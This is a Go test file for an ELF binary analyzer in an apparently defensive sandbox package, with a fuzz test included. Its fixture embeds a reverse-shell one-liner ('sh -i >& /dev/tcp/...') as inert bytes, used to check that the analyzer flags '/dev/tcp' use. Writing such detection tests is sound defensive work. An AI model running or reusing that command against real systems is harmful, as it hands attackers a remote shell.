package elf_test

import (
	"encoding/binary"
	"testing"

	"github.com/eventsec/eventsec/internal/sandbox/elf"
)

// minimalELF builds a 64-bit ELF header with one PT_INTERP program header
// and a /dev/tcp string.
func minimalELF() []byte {
	b := make([]byte, 0x200)
	copy(b, "\x7fELF\x02\x01\x01")
	le := binary.LittleEndian
	le.PutUint16(b[16:], 3)  // ET_DYN
	le.PutUint16(b[18:], 62) // x86-64
	le.PutUint32(b[20:], 1)
	le.PutUint64(b[24:], 0x1000) // entry
	le.PutUint64(b[32:], 64)     // phoff
	le.PutUint16(b[52:], 64)     // ehsize
	le.PutUint16(b[54:], 56)     // phentsize
	le.PutUint16(b[56:], 1)      // phnum
	ph := b[64:]
	le.PutUint32(ph[0:], 3) // PT_INTERP
	le.PutUint64(ph[8:], 0x100)
	le.PutUint64(ph[32:], 28)
	copy(b[0x100:], "/lib64/ld-linux-x86-64.so.2\x00")
	copy(b[0x180:], "sh -i >& /dev/tcp/192.0.2.1/80")
	return b
}

func TestAnalyze(t *testing.T) {
	info, err := elf.Analyze(minimalELF())
	if err != nil {
		t.Fatal(err)
	}
	if info.Interpreter != "/lib64/ld-linux-x86-64.so.2" || info.Type != "DYN" || info.Static || !info.Stripped {
		t.Errorf("%+v", info)
	}
	found := false
	for _, f := range info.Findings {
		found = found || f.Code == "elf.dev_tcp"
	}
	if !found {
		t.Errorf("findings %+v", info.Findings)
	}
}

func FuzzAnalyze(f *testing.F) {
	f.Add(minimalELF())
	f.Fuzz(func(t *testing.T, b []byte) {
		_, _ = elf.Analyze(b)
	})
}
